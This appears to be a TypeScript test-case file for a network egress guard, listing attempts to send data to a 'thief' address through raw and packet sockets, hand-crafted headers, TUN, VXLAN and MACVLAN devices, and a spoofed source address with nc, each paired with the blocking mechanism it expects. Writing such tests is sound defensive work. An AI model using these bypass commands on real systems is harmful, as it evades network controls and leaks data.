import type { Attacker, Row } from '../case.ts'
import { kernelSends, pastSockets, triedBefore } from './13-kernel-sends.ts'
import { linkCases } from './13-link.ts'
import { curl, python } from './script.ts'

const socketBy = 'socket, capability: no raw or packet socket'
const ok = (command: string): string => `${command} | tee /dev/stderr | grep -q '^ok'`
const twin = python('udp(WHERE4)')
const root: readonly Attacker[] = ['root']

export const rawSockets: Row = {
  row: 13,
  title: 'Raw and packet sockets, devices',
  cases: [
    ...[
      ['raw-udp', 'raw $D4 8080', 'raw socket (SOCK_RAW, UDP)'],
      ['raw-udp6', 'raw $D6 8080', 'raw socket, IPv6'],
      ['raw-header', 'raw-header $D4 8080', 'own IP header (IPPROTO_RAW)'],
      ['raw-fragment', 'fragment $D4 8080', 'later fragment, written by hand'],
    ].map(([id = '', act = '', technique = '']) => ({
      id,
      technique,
      as: root,
      attempt: ok(`$ACT ${act}`),
      twin,
      by: socketBy,
    })),
    ...[
      ['raw-user', 'raw $D4 8080', 'raw socket by an account without the capability'],
      [
        'raw-header-user',
        'raw-header $D4 8080',
        'own IP header by an account without the capability',
      ],
      ['packet-user', 'packet $D4 8080 2', 'packet socket by an account without the capability'],
    ].map(([id = '', act = '', technique = '']) => ({
      id,
      technique,
      as: ['user'] as const,
      attempt: ok(`$ACT ${act}`),
      twin,
      cannot: 'the kernel itself asks for CAP_NET_RAW',
      by: socketBy,
    })),
    {
      id: 'raw-icmp',
      technique: 'raw socket (ICMP)',
      as: root,
      attempt: python(
        `made(kind=socket.SOCK_RAW, protocol=1).sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1' + DATA, (D4, 0))`,
      ),
      twin,
      by: socketBy,
    },
    {
      id: 'raw-tcp',
      technique: 'raw socket (TCP segments by hand)',
      as: root,
      attempt: python(
        `made(kind=socket.SOCK_RAW, protocol=6).sendto(struct.pack('!HHIIBBHHH', 4444, 8080, 1, 0, 0x50, 2, 99, 0, 0) + DATA, (D4, 0))`,
      ),
      twin,
      by: socketBy,
    },
    {
      id: 'packet-frame',
      technique: 'packet socket (AF_PACKET, whole frames)',
      as: root,
      attempt: python(`
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
frame = bytes.fromhex('0200000000010200000000020800') + packet4(D4, datagram())
s.sendto(frame, ('to-internet', 0x800))`),
      twin,
      by: socketBy,
    },
    {
      id: 'packet-cooked',
      technique: 'packet socket (AF_PACKET, SOCK_DGRAM)',
      as: root,
      attempt: python(`
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
s.sendto(packet4(D4, datagram()), ('to-internet', 0x800, 0, 0, bytes.fromhex('020000000001')))`),
      twin,
      by: socketBy,
    },
    {
      id: 'packet-old',
      silent: 'refused for want of the capability; no hook sees this old kind of socket',
      technique: 'packet socket of the old kind (AF_INET, SOCK_PACKET)',
      as: root,
      attempt: python(`
s = socket.socket(socket.AF_INET, 10, socket.htons(3))
frame = bytes.fromhex('0200000000010200000000020800') + packet4(D4, datagram())
libc = ctypes.CDLL(None, use_errno=True)
to = struct.pack('H', socket.AF_INET) + b'to-internet'.ljust(14, b'\\0')
sent = libc.sendto(s.fileno(), frame, len(frame), 0, to, 16)
raise SystemExit(0 if sent > 0 else 9)`),
      twin,
      by: socketBy,
    },
    {
      id: 'packet-user-namespace',
      technique: 'packet socket with the capabilities of an own user namespace (unshare -r)',
      attempt: `unshare -Ur bash -c '${'$ACT'} packet $D4 8080 2' | tee /dev/stderr | grep -q '^ok'`,
      twin,
      as: ['user'],
      cannot: 'the network namespace belongs to another user namespace: the kernel refuses',
      by: socketBy,
    },
    {
      id: 'raw-setuid',
      technique: 'raw socket by a setuid-root program',
      as: ['user'],
      attempt: ok('$PROGRAMS/act-root raw $D4 8080'),
      twin,
      by: socketBy,
    },
    {
      id: 'tun-forwarded',
      technique: 'TUN device whose packets the kernel forwards to the uplink',
      as: root,
      attempt: python(`
import fcntl, subprocess
tun = os.open('/dev/net/tun', os.O_RDWR)
fcntl.ioctl(tun, 0x400454ca, struct.pack('16sH22x', b'zq0', 0x1001))
for words in ('link set zq0 up', 'addr add 192.0.2.130/30 dev zq0'):
    subprocess.run(['ip', *words.split()], check=True)
open('/proc/sys/net/ipv4/ip_forward', 'w').write('1')
os.write(tun, packet4(D4, datagram(), source='192.0.2.131'))
time.sleep(0.3)`),
      twin,
      by: 'told: `network-changed`',
      root: pastSockets,
      guests: triedBefore,
    },
    {
      id: 'vxlan',
      technique: 'VXLAN tunnel to the thief, with an allowed destination inside',
      as: root,
      attempt: `ip link add zqv type vxlan id 7 remote $D4 dstport 9000 dev to-internet &&
ip addr add 192.0.2.161/28 dev zqv && ip link set zqv up &&
ip neigh add 192.0.2.162 lladdr 02:00:00:00:00:07 dev zqv && ip route add 11.19.77.0/24 via 192.0.2.162 dev zqv
$ACT udp-sendto 11.19.77.7 8080; sleep 0.3; ip link del zqv; exit 9`,
      twin,
      by: 'told: `network-changed`',
      root: pastSockets,
      guests: triedBefore,
    },
    {
      id: 'macvlan',
      technique: 'MACVLAN device beside the uplink',
      as: root,
      attempt: `ip link add link to-internet name zqm type macvlan mode bridge && ip link set zqm up &&
ip addr add 192.0.2.2/32 dev zqm && ip route add $D4/32 via 192.0.2.1 dev zqm onlink && ip neigh add 192.0.2.1 lladdr 02:00:00:00:00:01 dev zqm
$ACT udp-sendto $D4 8080; sleep 0.2; ip link del zqm; exit 9`,
      twin,
      by: 'connect: the device does not matter',
    },
    {
      id: 'second-address',
      technique: 'another address of the machine as the source',
      as: root,
      attempt: `ip addr add 192.0.2.99/32 dev to-internet; nc -s 192.0.2.99 -N -w 3 $D4 8080 <<<"$T"; status=$?; ip addr del 192.0.2.99/32 dev to-internet; exit $status`,
      twin,
      by: 'connect: `EPERM`',
    },
    {
      id: 'tunnel-wireguard',
      technique: 'wireguard device',
      as: root,
      attempt: `ip link add zqw type wireguard; exit 9`,
      twin: curl('http://$HOST/'),
      cannot:
        'the kernel of these machines has no such device, and nothing else the program that gives it keys',
      impossible: true,
      by: '–',
      silent: 'no device was made',
    },
    ...linkCases,
    ...kernelSends,
  ],
}
